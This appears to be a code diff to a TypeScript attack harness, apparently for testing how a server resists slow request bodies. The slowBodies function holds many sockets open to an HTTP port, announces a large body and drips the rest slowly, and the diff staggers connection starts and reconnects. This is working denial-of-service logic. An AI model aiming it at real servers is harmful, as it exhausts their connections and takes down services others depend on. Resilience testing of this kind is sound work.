@@ -14,7 +14,7 @@ export const slowBodies: StartAttack = ({ httpPort }, count) => {
   const open = new Set<Socket>();
   const timers = new Set<NodeJS.Timeout>();
   let isOver = false;
-  for (let connection = 0; connection < connections; connection++) begin(connection);
+  for (let connection = 0; connection < connections; connection++) beginLater(connection, 0);
   const drip = setInterval(() => {
     for (const socket of open) socket.write(drop);
   }, 1000);
@@ -24,6 +24,18 @@ export const slowBodies: StartAttack = ({ httpPort }, count) => {
     for (const timer of timers) clearTimeout(timer);
     for (const socket of open) socket.destroy();
   };
+
+  /** Spreads the connections over two seconds: a thousand in one turn of the event loop would be measured as one long turn. */
+  function beginLater(connection: number, afterMs: number): void {
+    const timer = setTimeout(
+      () => {
+        timers.delete(timer);
+        begin(connection);
+      },
+      afterMs + connection * 2,
+    );
+    timers.add(timer);
+  }
 
   function begin(connection: number): void {
     const path = paths[connection % paths.length] ?? "";
@@ -35,12 +47,7 @@ export const slowBodies: StartAttack = ({ httpPort }, count) => {
     socket.on("data", (chunk: Buffer) => count(chunk.toString("latin1", 9, 12)));
     socket.once("close", () => {
       open.delete(socket);
-      if (isOver) return;
-      const timer = setTimeout(() => {
-        timers.delete(timer);
-        begin(connection);
-      }, 2000);
-      timers.add(timer);
+      if (!isOver) beginLater(connection, 2000);
     });
     socket.write(head);
     socket.write(filling.subarray(0, Math.min(announced - 4000, filling.length)));
